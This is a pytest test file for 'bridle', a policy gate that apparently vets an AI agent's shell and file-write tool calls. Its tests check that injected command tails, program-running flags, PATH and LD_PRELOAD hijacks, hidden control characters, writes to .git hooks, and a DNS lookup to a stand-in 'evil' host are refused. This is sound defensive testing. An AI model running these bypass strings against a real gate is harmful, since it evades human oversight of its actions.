"""What went wrong elsewhere, line by line: one test for each promise that the gate keeps.

Where a promise is tested elsewhere, `elsewhere.txt` points at the test, and a test here sees that
it is still there. The corpora beside this file hold many more cases for each line.
"""

import ast
import re
from pathlib import Path

import pytest

from bridle.config.policy import read_rules
from bridle.errors import ConfigError
from bridle.messages import ToolCall
from bridle.policy import parse_rule

TESTS = Path(__file__).parent.parent
PWNED = "touch pwned"


def elsewhere():
    """Promises, and the tests that hold them."""
    text = (Path(__file__).parent / "elsewhere.txt").read_text()
    whole = re.findall(r"^(\S.*)\n((?:    .*\n)+)", text, re.MULTILINE)
    return {promise: places.split() for promise, places in whole}


ELSEWHERE = elsewhere()


@pytest.mark.parametrize("promise", ELSEWHERE)
def test_what_is_tested_elsewhere_is_still_there(promise):
    for place in ELSEWHERE[promise]:
        name, _, function = place.partition("::")
        tree = ast.parse((TESTS / name).read_text())
        assert function in [node.name for node in tree.body if isinstance(node, ast.FunctionDef)]


def unasked(gate, *lines):
    return [line for line in lines if gate.verdict(line) == "allow"]


def decided(gate, line, rule, mode="ask"):
    call = ToolCall("", "shell", {"command": line})
    return gate.dry_run.judge(call, mode, (parse_rule(rule),)).decision.verdict


def test_a_program_is_safe_only_with_flags_on_its_own_list(gate):
    """Commands 1."""
    safe = ["echo x", "rg x", "sort a.txt", "sed -n 1p a.txt", "find . -name x", "git grep x"]
    assert unasked(gate, *safe) == safe
    assert (
        unasked(
            gate,
            "rg --pre ./x y",
            "sort --compress-program=./x a.txt",
            "man -P ./x ls",
            "sed 1e a.txt",
            "sed 'w x' a.txt",
            "find . -exec ./x {} +",
            "find . -fprintf x y",
            "git -c core.pager=./x log",
            "git grep -O./x y",
            "xargs ./x",
            "tar cf x --checkpoint-action=exec=./x y",
            "ls --bogus",
        )
        == []
    )


def test_a_rule_never_matches_the_raw_string(gate):
    """Commands 1: allowed is what was understood, every part of it."""
    rule = "allow: shell(echo *)"
    assert decided(gate, "echo hello", rule) == "allow"
    for tail in ("; touch pwned", " && touch pwned", " | sh", " > src/app.py", " $(touch pwned)"):
        assert decided(gate, f"echo hello{tail}", rule) != "allow"
    assert decided(gate, "echo hello\ntouch pwned", rule) != "allow"
    assert decided(gate, "echoo x", "allow: shell(echo *)") == "ask"


def test_any_expansion_and_any_syntax_that_is_not_understood_asks(gate):
    """Commands 2."""
    assert (
        unasked(
            gate,
            "cat$IFS.env",
            "echo ${x@P}",
            "echo `touch pwned`",
            "echo $(touch pwned)",
            "cat <(touch pwned)",
            "echo $((a[$(touch pwned)]))",
            "cat << EOF\n$(touch pwned)\nEOF",
            "echo x >| src/app.py",
            "echo x &> src/app.py",
            "ls\u2028touch pwned",
            "ls\0touch pwned",
            "to\\\nuch pwned",
        )
        == []
    )


@pytest.mark.parametrize(
    "wrapper",
    [
        "env -S '{}'",
        "sudo {}",
        "nice {}",
        "timeout 5 {}",
        "watch {}",
        "setsid {}",
        "command {}",
        "busybox {}",
        "sh -c '{}'",
        "ssh host {}",
        "docker run x {}",
        "docker exec x {}",
    ],
)
def test_a_deny_rule_for_the_inner_command_still_denies(gate, wrapper):
    """Commands 3."""
    assert gate.verdict(wrapper.format(PWNED)) != "allow"
    assert decided(gate, wrapper.format(PWNED), "deny: shell(touch *)", "auto") == "deny"


def test_always_is_bound_to_the_command_and_not_to_the_wrapper(gate):
    """Approvals: `always` bound to the wrapper."""
    for wrapper in ("sudo", "env", "nice", "timeout 5", "sh -c", "xargs"):
        rule = f"allow: shell({wrapper} ls *)"
        assert decided(gate, f"{wrapper} touch pwned", rule) == "ask"
        assert decided(gate, f"{wrapper} 'ls; touch pwned'", rule) != "allow"


def test_assignments_and_built_ins_count_as_commands(gate):
    """Commands 4."""
    assert (
        unasked(
            gate,
            "export PATH=.",
            "alias ls=x",
            "PATH=. ls",
            "LD_PRELOAD=./x ls",
            "BASH_ENV=x bash -c ls",
            "printf -v PATH .",
            "hash -p ./x ls",
            "enable -f x ls",
        )
        == []
    )
    assert decided(gate, "PATH=. ls", "allow: shell(ls)") != "allow"


def test_paths_are_judged_after_cd_and_a_cd_out_of_the_root_asks(gate):
    """Commands 5."""
    assert unasked(gate, "cd src && cat app.py") == ["cd src && cat app.py"]
    assert unasked(gate, "cd ..", "cd .. && ls", "cd src && cat ../../outside.txt", "cd /") == []
    assert gate.verdicts("cd .git && touch hooks/x")[1:] == ("deny", "deny")
    assert gate.verdicts("cd .. && touch x")[1:] == ("deny", "deny")


def test_git_in_a_repository_that_can_run_code_asks(gate):
    """Commands 6."""
    assert unasked(gate, "git status", "git -C src log") == ["git status", "git -C src log"]
    assert unasked(gate, "cd wild && git status", "git -C wild diff", "git -C bare.git log") == []
    assert gate.verdict("git status", "wild") == "ask"


def test_name_resolution_is_output(gate):
    """Commands 7."""
    assert unasked(gate, "ping x.example", "dig x.example", "host x.example", "nslookup x") == []
    assert decided(gate, "dig secret.evil.example", "deny: fetch(*.evil.example)") == "deny"


def test_limits_fail_closed(gate):
    """Commands 8."""
    assert unasked(gate, "; ".join(["ls"] * 51), f"echo {'x' * 10_001}", "(" * 60 + ")" * 60) == []


def test_what_another_shell_would_read_otherwise_is_not_allowed(gate):
    """Commands 9."""
    assert unasked(gate, "ls *(e:id:)", "ls =(id)", "ls **/*(om[1])", "echo !(x)") == []


@pytest.mark.parametrize(
    "text",
    ["rules:\n- allow everything\n", "rules: yes\n", "\0", "rules:\n- allow: shell(ls\n", "[[["],
)
def test_a_bad_policy_file_is_refused(tmp_path, text):
    """Commands 10: it never means allow-everything."""
    path = tmp_path / "policy.yaml"
    path.write_text(text)
    with pytest.raises(ConfigError):
        read_rules(path)


def test_components_are_compared_and_not_prefixes(gate):
    """Paths: `/ws` and `/ws-evil`."""
    root = gate.dry_run.machine.root
    assert gate.verdict(f"cat {root}/a.txt") == "allow"
    assert gate.verdict(f"cat {root}-evil/x") == "ask"
    assert gate.verdicts(f"touch {root}-evil/x")[1:] == ("deny", "deny")
    assert gate.verdicts(f"touch {root}/../ws-evil/x")[1:] == ("deny", "deny")


def test_protected_names_are_protected_before_they_exist_and_in_any_case(gate):
    """Paths: case-blind names, files that did not exist yet."""
    for path in (".git/hooks/new", ".GIT/config", ".bridle/policy.yaml", ".Bridle/hooks.yaml"):
        assert gate.verdicts(f"touch {path}")[1:] == ("deny", "deny"), path
        call = ToolCall("", "write", {"path": path, "content": "x"})
        assert gate.dry_run.judge(call, "auto").decision.verdict == "deny", path


def test_a_repository_cannot_set_anything_until_it_is_trusted(bridle_program, field):
    """State: its `.env` and its `.bridle` folder say nothing."""
    folder = field.root / ".bridle"
    folder.mkdir()
    try:
        (folder / "policy.yaml").write_text("rules:\n- 'allow: shell(*)'\n")
        done = bridle_program('{"command": "touch pwned"}\n')
    finally:
        (folder / "policy.yaml").unlink()
        folder.rmdir()
    assert b'"decision":"ask"' in done.stdout
    assert b"its own rules, which do not count" in done.stderr


def test_every_byte_of_a_command_is_in_what_is_judged(gate):
    """Approvals: what is shown is what runs: nothing in it is dropped or read as something else."""
    for hidden in ("\u202e", "\u200b", "\b", "\x1b[8m", "\r", "\U000e0041", "\x7f"):
        line = f"ls {hidden}x"
        judged = gate.judge(line)
        assert judged.decision.verdict != "allow", line
        assert judged.facts.subject == line
